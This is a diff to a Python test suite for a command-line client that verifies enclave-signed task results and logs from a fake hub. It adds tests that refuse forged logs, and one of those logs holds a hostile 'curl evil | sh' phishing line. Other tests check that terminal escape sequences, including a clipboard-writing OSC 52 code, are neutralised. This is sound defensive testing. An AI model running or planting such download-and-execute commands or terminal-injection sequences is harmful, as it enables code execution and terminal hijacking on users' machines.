@@ -166,18 +166,27 @@ class User:
         return document
 
 
-def publish(services: Services, world: World, *, logs: bytes | None = None) -> str:
-    """Put the world's task on the fake hub (as the worker would report it)."""
+def publish(
+    services: Services,
+    world: World,
+    *,
+    logs: bytes | None = None,
+    status: str = "COMPLETED",
+    cause: str | None = None,
+) -> str:
+    """Put the world's task on the fake hub (as the worker would report it); its logs
+    sealed to the requester, their digest signed in the statement (as the runtime does)."""
     blob = services.put_blob(world.stored.read_bytes())
     logs_blob = None
     if logs is not None:
         public = public_of(load_private_key(world.key_path))
         logs_blob = services.put_blob(seal_logs(logs, public, world.task))
+        world = resign(world, dataclasses.replace(world.statement, logs_digest=logs_blob))
     document = world.document(blob=blob, logs_blob=logs_blob)
     services.views[world.task] = {
         "task": world.task,
-        "status": "COMPLETED",
-        "cause": None,
+        "status": status,
+        "cause": cause,
         "requester": world.order.requester,
         "app": world.order.app,
         "attempts": 1,
@@ -316,3 +325,56 @@ def test_a_hostile_archive_signed_by_the_enclave_is_not_extracted(
     assert_refusal(done, "result-digest")
     assert sorted(p.name for p in out.iterdir()) == [f"{task}.json", f"{task}.zip"]
     assert not (tmp_path / "escape.txt").exists()
+
+
+def test_logs_open_only_as_the_enclave_signed_them(tmp_path: Path, services: Services) -> None:
+    """Anyone can seal a text to the requester's public key: logs the statement does not
+    sign (other bytes, another blob) are never opened, nor shown."""
+    user, world = requester(tmp_path, services)
+    task = publish(services, world, logs=b"the real logs\n")
+    signed = services.views[task]["result"]["logs_blob"]
+    public = public_of(load_private_key(world.key_path))
+    forged = services.put_blob(seal_logs(b"PHISHING: run curl evil | sh\n", public, task))
+    services.views[task]["result"]["logs_blob"] = forged
+    refused = user.cli("task", "debug", task, "--logs")
+    assert_refusal(refused, "hub names logs blob", "not opened")
+    assert "PHISHING" not in refused.stdout
+    services.views[task]["result"]["logs_blob"] = signed
+    services.blobs[signed] = services.blobs[forged]  # the storage serves other bytes
+    swapped = user.cli("task", "debug", task, "--logs")
+    assert swapped.returncode == 1 and "PHISHING" not in swapped.stdout + swapped.stderr
+
+
+def test_control_characters_never_reach_the_terminal(tmp_path: Path, services: Services) -> None:
+    user, world = requester(tmp_path, services)
+    logs = "\x1b]52;c;ZXZpbA==\x07copied \x1b[31mred\u202e\n\tindented\n".encode()
+    task = publish(services, world, logs=logs)
+    services.views[task]["result"]["error"] = "boom\x1b[2J\x9b0m"
+    plain = user.cli("task", "debug", task, "--logs")
+    assert plain.returncode == 0, plain.stderr
+    for raw in ("\x1b", "\x07", "\x9b", "\u202e"):
+        assert raw not in plain.stdout
+    assert "\\x1b]52;c;ZXZpbA==\\x07copied" in plain.stdout
+    assert "\n\tindented\n" in plain.stdout and "boom\\x1b[2J\\x9b0m" in plain.stdout
+    as_json = user.ok("task", "debug", task, "--logs")  # JSON: escaped by JSON itself
+    assert as_json["logs"].startswith("\x1b]52") and as_json["error"] == "boom\x1b[2J\x9b0m"
+
+
+def test_a_failed_tasks_error_result(tmp_path: Path, services: Services) -> None:
+    """The statement signs the outcome: a failed task's (error.txt) result downloads and
+    verifies as a failure, and never passes for a COMPLETED task's result."""
+    user, world = requester(tmp_path, services)
+    failed = resign(
+        world, dataclasses.replace(world.statement, outcome="failed:APP_COMPUTE_FAILED")
+    )
+    task = publish(services, failed, status="FAILED", cause="APP_COMPUTE_FAILED")
+    shown = user.cli("task", "show", task, "--download", tmp_path / "f")
+    assert shown.returncode == 0, shown.stderr
+    assert "the task failed (APP_COMPUTE_FAILED, signed by the enclave)" in shown.stdout
+    as_json = user.ok("task", "show", task, "--download", tmp_path / "g")
+    assert as_json["verified"] is True and as_json["outcome"] == "failed:APP_COMPUTE_FAILED"
+    verified = user.cli("result", "verify", task, "--dir", tmp_path / "f", "--allow-sim")
+    assert verified.returncode == 0 and "the task failed (APP_COMPUTE_FAILED" in verified.stdout
+    publish(services, failed)  # the same signed error result, as a COMPLETED task's
+    refused = user.cli("task", "show", task, "--download", tmp_path / "h")
+    assert_refusal(refused, "failed verification", "outcome", "failed task's error.txt")
